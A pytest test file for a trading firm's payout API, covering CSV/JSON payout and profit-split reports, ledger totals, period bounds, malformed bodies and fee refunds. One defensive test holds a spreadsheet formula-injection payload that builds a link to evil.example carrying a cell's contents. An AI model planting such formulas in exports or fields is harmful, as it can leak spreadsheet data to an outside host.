def test_the_payout_report_in_csv_has_a_header_a_row_per_approved_payout_and_totals(
    client: TestClient, program_id: str, eur_fee_program_id: str
) -> None:
    window = report_window(client, program_id, eur_fee_program_id)
    response = client.get(
        "/v1/reports/payouts",
        params={"from": window["from"], "to": window["to"], "format": "csv"},
        headers=FINANCE,
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == CSV_HEADER
    body = [row for row in rows[1:] if row and row[0] != "total"]
    totals = [row for row in rows[1:] if row and row[0] == "total"]
    assert rows[1 : 1 + len(body)] == body, "payout rows come before the total lines"
    assert rows[1 + len(body) :] == totals
    assert [row[0] for row in body] == window["approved"]  # by approval time
    by_id = {row[0]: dict(zip(CSV_HEADER, row, strict=True)) for row in body}
    first, second, euro = (by_id[payout_id] for payout_id in window["approved"])
    assert (first["status"], first["paid_reference"]) == ("paid", "W-1")
    assert (first["trader_share"], first["firm_share"], first["total"]) == (
        "800.00",
        "200.00",
        "1340.00",
    )
    assert (second["status"], second["approved_by"]) == ("approved", "approver-carol")
    assert (second["profit"], second["trader_share"], second["firm_share"]) == (
        "1234.57",
        "987.66",
        "246.91",
    )
    assert (euro["fee_refund"], euro["fee_refund_currency"], euro["total"]) == (
        "540.00",
        "EUR",
        "1600.00",
    )
    for payout_id in window["not_approved"]:
        assert payout_id not in by_id

    assert [row[5] for row in totals] == ["EUR", "USD"]
    for row, expected in zip(totals, EXPECTED_TOTALS, strict=True):
        assert row[1] == f"count={expected['count']}"
        named = dict(zip(CSV_HEADER, row, strict=True))
        for field in ("profit", "trader_share", "firm_share", "fee_refund", "total"):
            assert named[field] == expected[field], (expected["currency"], field)

    error_of(client.get("/v1/reports/payouts", headers=APPROVER), 403)
    error_of(client.get("/v1/reports/payouts", params={"format": "xml"}, headers=FINANCE), 422)


def test_the_payout_report_in_json_has_rows_and_totals_per_currency(
    client: TestClient, program_id: str, eur_fee_program_id: str
) -> None:
    window = report_window(client, program_id, eur_fee_program_id)
    response = client.get(
        "/v1/reports/payouts", params={"from": window["from"], "to": window["to"]}, headers=AUDITOR
    )
    assert response.status_code == 200, response.text
    report = response.json()
    assert [row["payout_id"] for row in report["rows"]] == window["approved"]
    assert report["totals"] == EXPECTED_TOTALS
    euro = report["rows"][2]
    assert sorted((t["currency"], t["amount"]) for t in euro["totals"]) == [
        ("EUR", "540.00"),
        ("USD", "1600.00"),
    ]


def test_a_fee_currency_nothing_was_refunded_in_gets_no_totals_line(
    client: TestClient, eur_fee_program_id: str
) -> None:
    """The fee is in euros, the challenge was recorded at 0.00 EUR: nothing is refunded, so
    the report's totals name dollars only, as the payout's own `totals` do (until
    2026-12-07 an all-zero EUR line with count 0 came too: black-box audit)."""
    trader_id = uid("trader-")
    phase = phase_account(client, eur_fee_program_id, trader_id, amount="0.00", currency="EUR")
    funded_id = str(trade(client, phase, "1000.00")["next_account_id"])
    trade(client, funded_id, "1000.00")
    payout = request_payout(client, funded_id, trader_headers(trader_id))
    assert (payout["fee_refund"], payout["fee_refund_currency"]) == ("0.00", "EUR")
    approved_at = datetime.fromisoformat(approve(client, payout["payout_id"])["approved_at"])
    period = {
        "from": approved_at.isoformat(),
        "to": (approved_at + timedelta(microseconds=1)).isoformat(),
    }
    report = client.get("/v1/reports/payouts", params=period, headers=FINANCE).json()
    assert [row["payout_id"] for row in report["rows"]] == [payout["payout_id"]]
    assert [total["currency"] for total in report["totals"]] == ["USD"]
    csv_text = client.get(
        "/v1/reports/payouts", params={**period, "format": "csv"}, headers=FINANCE
    ).text
    totals = [row for row in csv.reader(io.StringIO(csv_text)) if row and row[0] == "total"]
    assert [row[5] for row in totals] == ["USD"]


def test_the_csv_shows_text_that_would_start_a_formula_as_text(
    client: TestClient, program_id: str
) -> None:
    """A token's sub (or a trader id from Stripe metadata, a bank reference) written as a
    formula would run when finance opens the CSV in a spreadsheet: it gets a leading
    apostrophe there; the JSON keeps it as recorded (console audit)."""
    trader_id = uid("trader-")
    formula = '=HYPERLINK("http://evil.example/?"&A2,"open")'
    payout = request_payout(
        client,
        funded_account(client, program_id, trader_id),
        headers("finance", sub=formula),
    )
    approved_at = datetime.fromisoformat(approve(client, payout["payout_id"])["approved_at"])
    period = {
        "from": approved_at.isoformat(),
        "to": (approved_at + timedelta(microseconds=1)).isoformat(),
    }
    (row,) = client.get("/v1/reports/payouts", params=period, headers=FINANCE).json()["rows"]
    assert row["requested_by"] == formula
    text = client.get("/v1/reports/payouts", params={**period, "format": "csv"}, headers=FINANCE)
    rows = list(csv.reader(io.StringIO(text.text)))
    named = dict(zip(rows[0], rows[1], strict=True))
    assert named["requested_by"] == "'" + formula
    assert named["profit"] == "1000.00"


def test_a_date_period_of_the_report_includes_the_whole_to_day(
    client: TestClient, program_id: str
) -> None:
    trader_id = uid("trader-")
    payout = request_payout(
        client, funded_account(client, program_id, trader_id), trader_headers(trader_id)
    )
    approve(client, payout["payout_id"])
    today = now().date()

    def ids(params: dict[str, str]) -> list[str]:
        report = client.get("/v1/reports/payouts", params=params, headers=FINANCE)
        assert report.status_code == 200, report.text
        return [row["payout_id"] for row in report.json()["rows"]]

    assert payout["payout_id"] in ids({"from": today.isoformat(), "to": today.isoformat()})
    yesterday = (today - timedelta(days=1)).isoformat()
    assert payout["payout_id"] not in ids({"from": yesterday, "to": yesterday})


def test_period_bounds_past_the_microsecond_keep_from_and_to_exact(
    client: TestClient, program_id: str
) -> None:
    """[from, to) with bounds finer than the microsecond times are kept to: a payout
    approved at T is in when T >= from and T < to, taken literally (cut to the
    microsecond, a `to` half a microsecond after T left it out, a `from` half a
    microsecond after T let it in)."""
    trader_id = uid("trader-")
    payout = request_payout(
        client, funded_account(client, program_id, trader_id), trader_headers(trader_id)
    )
    approved_at = datetime.fromisoformat(approve(client, payout["payout_id"])["approved_at"])
    at = approved_at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%f")
    before = (approved_at - timedelta(microseconds=1)).astimezone(UTC)
    just_before = before.strftime("%Y-%m-%dT%H:%M:%S.%f") + "5Z"  # T - 0.5 us

    def ids(params: dict[str, str]) -> list[str]:
        report = client.get("/v1/reports/payouts", params=params, headers=FINANCE)
        assert report.status_code == 200, report.text
        return [row["payout_id"] for row in report.json()["rows"]]

    assert payout["payout_id"] in ids({"to": at + "5Z"})  # T < T + 0.5 us
    assert payout["payout_id"] not in ids({"from": at + "5Z"})  # T < from
    assert payout["payout_id"] in ids({"from": just_before})  # T > from
    assert payout["payout_id"] not in ids({"to": just_before})  # T > to
    assert payout["payout_id"] in ids({"from": at + "000Z", "to": at + "001Z"})
    assert payout["payout_id"] not in ids({"from": at + "001Z"})


@pytest.mark.parametrize(
    "path", ["/v1/reports/payouts", "/v1/reports/profit-splits", "/v1/payouts"]
)
def test_a_period_whose_to_is_before_its_from_is_refused(client: TestClient, path: str) -> None:
    # The day before is refused too, though a date `to` ends at the `from` date's midnight.
    for to in ("2026-12-01", "2026-12-07"):
        params = {"from": "2026-12-08", "to": to}
        error = error_of(client.get(path, params=params, headers=FINANCE), 422, "invalid_period")
        assert error["details"] == params
    # A `to` date the day before an instant `from` at that midnight: the same empty period.
    params = {"from": "2026-12-08T00:00:00Z", "to": "2026-12-07"}
    error_of(client.get(path, params=params, headers=FINANCE), 422, "invalid_period")
    # Half a day, from noon to the end of the `to` date, is a period.
    half = {"from": "2026-12-01T12:00:00Z", "to": "2026-12-01"}
    assert client.get(path, params=half, headers=FINANCE).status_code == 200
    # One day, given as a date both ways, is a period (the whole day).
    same = {"from": "2026-12-01", "to": "2026-12-01"}
    assert client.get(path, params=same, headers=FINANCE).status_code == 200


def sums(lines: list[dict[str, Any]], side: str) -> dict[str, Decimal]:
    totals: dict[str, Decimal] = defaultdict(Decimal)
    for line in lines:
        totals[line["currency"]] += Decimal(line[side])
    return {currency: amount for currency, amount in totals.items() if amount}


def in_window(lines: list[dict[str, Any]], start: str, end: str) -> list[dict[str, Any]]:
    low, high = parse_instant(start), parse_instant(end)
    return [line for line in lines if low <= parse_instant(line["booked_at"]) < high]


def test_the_payout_reports_totals_equal_the_journals_movements_for_the_same_period(
    client: TestClient, program_id: str, eur_fee_program_id: str
) -> None:
    window = report_window(client, program_id, eur_fee_program_id)
    report = client.get(
        "/v1/reports/payouts", params={"from": window["from"], "to": window["to"]}, headers=FINANCE
    ).json()
    share = {t["currency"]: Decimal(t["trader_share"]) for t in report["totals"]}
    total = {t["currency"]: Decimal(t["total"]) for t in report["totals"]}
    fee = {t["currency"]: Decimal(t["fee_refund"]) for t in report["totals"]}

    expense = in_window(entries(client, "expenses:profit_share"), window["from"], window["to"])
    payable = in_window(
        entries(client, "liabilities:trader_payable:"), window["from"], window["to"]
    )
    refunds = in_window(entries(client, "revenue:refunds"), window["from"], window["to"])
    at_approval = [line for line in payable if line["event_type"] == "Payout.Approved"]
    assert {line["event_type"] for line in expense} == {"Payout.Approved"}

    assert sums(expense, "debit") == {c: v for c, v in share.items() if v}
    assert sums(expense, "credit") == {}
    assert sums(at_approval, "credit") == total
    assert sums(at_approval, "debit") == {}
    assert sums(refunds, "debit") == fee
    assert sums(expense, "debit") == {"USD": Decimal("3387.66")}
    assert sums(at_approval, "credit") == {"USD": Decimal("4467.66"), "EUR": Decimal("540.00")}
    # The paid one was paid from the payable, in full.
    paid = [line for line in payable if line["event_type"] == "Payout.Paid"]
    assert sums(paid, "debit") == {"USD": Decimal("1340.00")}

    # And over the whole history of this database, every period at once.
    everything = client.get("/v1/reports/payouts", headers=FINANCE).json()["totals"]
    all_approvals = [
        line
        for line in entries(client, "liabilities:trader_payable:")
        if line["event_type"] == "Payout.Approved"
    ]
    assert sums(all_approvals, "credit") == {t["currency"]: Decimal(t["total"]) for t in everything}
    assert sums(entries(client, "expenses:profit_share"), "debit") == {
        t["currency"]: Decimal(t["trader_share"]) for t in everything if Decimal(t["trader_share"])
    }

    balance = client.get("/v1/ledger/trial-balance", headers=AUDITOR).json()
    for currency_total in balance["totals"]:
        assert currency_total["debit"] == currency_total["credit"], currency_total


def test_profit_splits_are_reported_per_trader_and_program(
    client: TestClient, program_id: str, eur_fee_program_id: str
) -> None:
    window = report_window(client, program_id, eur_fee_program_id)
    trader_a, trader_b = window["traders"]
    response = client.get(
        "/v1/reports/profit-splits",
        params={"from": window["from"], "to": window["to"]},
        headers=FINANCE,
    )
    assert response.status_code == 200, response.text
    rows = [row for row in response.json()["rows"] if row["trader_id"] in (trader_a, trader_b)]
    assert rows == [
        {
            "trader_id": trader_a,
            "program_id": program_id,
            "currency": "USD",
            "payouts": 2,
            "profit": "2234.57",
            "trader_share": "1787.66",
            "firm_share": "446.91",
        },
        {
            "trader_id": trader_b,
            "program_id": eur_fee_program_id,
            "currency": "USD",
            "payouts": 1,
            "profit": "2000.00",
            "trader_share": "1600.00",
            "firm_share": "400.00",
        },
    ]
    error_of(client.get("/v1/reports/profit-splits", headers=APPROVER), 403)

    # The same report as CSV (DESIGN: "payout and profit-split reports (CSV/JSON)").
    as_csv = client.get(
        "/v1/reports/profit-splits",
        params={"from": window["from"], "to": window["to"], "format": "csv"},
        headers=FINANCE,
    )
    assert as_csv.status_code == 200, as_csv.text
    assert as_csv.headers["content-type"].startswith("text/csv")
    lines = as_csv.text.splitlines()
    assert lines[0] == "trader_id,program_id,currency,payouts,profit,trader_share,firm_share"
    assert f"{trader_a},{program_id},USD,2,2234.57,1787.66,446.91" in lines
    assert f"{trader_b},{eur_fee_program_id},USD,1,2000.00,1600.00,400.00" in lines
    unknown = client.get("/v1/reports/profit-splits", params={"format": "xml"}, headers=FINANCE)
    error_of(unknown, 422)


def test_the_journal_books_an_approval_at_the_instant_the_report_files_it_under(
    client: TestClient, program_id: str
) -> None:
    trader_id = uid("trader-")
    payout = request_payout(
        client, funded_account(client, program_id, trader_id), trader_headers(trader_id)
    )
    approved = approve(client, payout["payout_id"])
    approved_at = parse_instant(approved["approved_at"])
    (entry,) = [
        line
        for line in entries(client, "expenses:profit_share")
        if line["entry_id"].startswith(payout["payout_id"])
    ]
    assert parse_instant(entry["booked_at"]) == approved_at
    # A period ending just after (or exactly at) the approval: report and journal agree.
    for boundary in (approved_at + timedelta(microseconds=1), approved_at):
        report = client.get(
            "/v1/reports/payouts", params={"to": instant(boundary)}, headers=FINANCE
        ).json()
        reported = {t["currency"]: Decimal(t["trader_share"]) for t in report["totals"]}
        booked = [
            line
            for line in entries(client, "expenses:profit_share")
            if parse_instant(line["booked_at"]) < boundary
        ]
        assert sums(booked, "debit") == {c: v for c, v in reported.items() if v}


def test_the_payout_report_as_of_an_instant_shows_payouts_as_the_ledger_knew_them(
    client: TestClient, program_id: str
) -> None:
    trader_id = uid("trader-")
    payout = request_payout(
        client, funded_account(client, program_id, trader_id), trader_headers(trader_id)
    )
    before_approval = now()
    approve(client, payout["payout_id"])
    after_approval = now()
    paid = client.post(
        f"/v1/payouts/{payout['payout_id']}/paid", json={"reference": "SEPA-7"}, headers=FINANCE
    )
    assert paid.status_code == 200

    def report_row(as_of: datetime | None) -> dict[str, Any] | None:
        params = {} if as_of is None else {"as_of": instant(as_of)}
        rows = client.get("/v1/reports/payouts", params=params, headers=FINANCE).json()["rows"]
        return next((row for row in rows if row["payout_id"] == payout["payout_id"]), None)

    assert report_row(before_approval) is None
    then = report_row(after_approval)
    assert then is not None
    assert (then["status"], then["paid_reference"]) == ("approved", None)
    current = report_row(None)
    assert current is not None
    assert (current["status"], current["paid_reference"]) == ("paid", "SEPA-7")
    splits_then = client.get(
        "/v1/reports/profit-splits", params={"as_of": instant(before_approval)}, headers=FINANCE
    ).json()["rows"]
    assert all(row["trader_id"] != trader_id for row in splits_then)


def test_a_malformed_body_on_a_payout_request_or_approval_is_400_and_changes_nothing(
    client: TestClient, program_id: str
) -> None:
    """Request and approve take no body; one sent anyway is still read as JSON, so
    `{not json` is 400 `malformed_json` as on every endpoint, not silently ignored."""
    trader_id = uid("trader-")
    account_id = funded_account(client, program_id, trader_id)
    broken = {**trader_headers(trader_id), "Content-Type": "application/json"}
    refused = client.post(
        f"/v1/accounts/{account_id}/payouts", content=b"{not json", headers=broken
    )
    error_of(refused, 400, "malformed_json")
    # Nothing was requested: a request now is not refused `payout_pending`.
    payout = request_payout(client, account_id, trader_headers(trader_id))
    refused = client.post(
        f"/v1/payouts/{payout['payout_id']}/approve",
        content=b"{{{",
        headers={**APPROVER, "Content-Type": "application/json"},
    )
    error_of(refused, 400, "malformed_json")
    # JSON that says something is refused too, never ignored: `{"approved": false}`
    # approved, and a request for part of the profit asked for all of it (until
    # 2026-12-07; black-box audit). So is JSON declared as another type.
    approve_url = f"/v1/payouts/{payout['payout_id']}/approve"
    for body in ({"approved": False, "reason": "hold"}, "x", [], 0):
        error_of(client.post(approve_url, json=body, headers=APPROVER), 422, "invalid_input")
    as_form = {**APPROVER, "Content-Type": "application/x-www-form-urlencoded"}
    said = b'{"approved": false}'
    error_of(client.post(approve_url, content=said, headers=as_form), 422, "invalid_input")
    other = funded_account(client, program_id, uid("trader-"))
    partial = client.post(
        f"/v1/accounts/{other}/payouts", json={"amount": "10.00"}, headers=FINANCE
    )
    assert error_of(partial, 422, "invalid_input")["details"] == {"fields": ["amount"]}
    assert client.get(f"/v1/payouts/{payout['payout_id']}", headers=FINANCE).json()["status"] == (
        "requested"
    )
    assert client.post(f"/v1/accounts/{other}/payouts", json={}, headers=FINANCE).status_code == 201
    # `curl -d '{}'` declares a form: an empty object says nothing, whatever its type.
    approved = client.post(approve_url, content=b"{}", headers=as_form)
    assert approved.status_code == 200, approved.text


@pytest.mark.parametrize(("paid", "refunded"), [("0", "0.00"), ("300.00", "300.00")])
def test_the_fee_refunded_is_never_more_than_the_purchase_paid(
    client: TestClient, program_id: str, paid: str, refunded: str
) -> None:
    """The program's fee (540.00), but not a fee the firm never received: a challenge
    bought for 0 (recorded by finance, booking nothing) or at a discount gives back what
    was paid."""
    trader_id = uid("trader-")
    phase = phase_account(client, program_id, trader_id, amount=paid)
    passed = trade(client, phase, "1000.00")
    funded_id = str(passed["next_account_id"])
    trade(client, funded_id, "1000.00")
    payout = request_payout(client, funded_id, trader_headers(trader_id))
    assert payout["fee_refund"] == refunded
    assert payout["total"] == f"{Decimal('800.00') + Decimal(refunded):.2f}"


@pytest.mark.parametrize(("paid", "refunded"), [("0", "0.00"), ("100.00", "540.00")])
def test_a_purchase_paid_in_another_currency_refunds_the_fee_unless_nothing_was_kept(
    client: TestClient, program_id: str, paid: str, refunded: str
) -> None:
    """The fee is 540.00 USD; finance recorded the challenge as paid in euros. There is no
    rate to compare the two by, so the refund stays the program's fee, in dollars, unless
    the firm kept nothing of the purchase: a challenge recorded at 0 EUR gives nothing back
    (until 2026-12-07 it gave the whole 540.00 USD)."""
    trader_id = uid("trader-")
    phase = phase_account(client, program_id, trader_id, amount=paid, currency="EUR")
    passed = trade(client, phase, "1000.00")
    funded_id = str(passed["next_account_id"])
    trade(client, funded_id, "1000.00")
    payout = request_payout(client, funded_id, trader_headers(trader_id))
    assert (payout["fee_refund"], payout["fee_refund_currency"]) == (refunded, "USD")
    assert payout["total"] == f"{Decimal('800.00') + Decimal(refunded):.2f}"
    approved = approve(client, payout["payout_id"])
    assert approved["status"] == "approved"
    refunds = entries(client, "revenue:refunds")
    mine = [line for line in refunds if line["entry_id"].startswith(payout["payout_id"])]
    assert all(line["currency"] == "USD" for line in mine)
    assert sum(Decimal(line["debit"]) for line in mine) == Decimal(refunded)
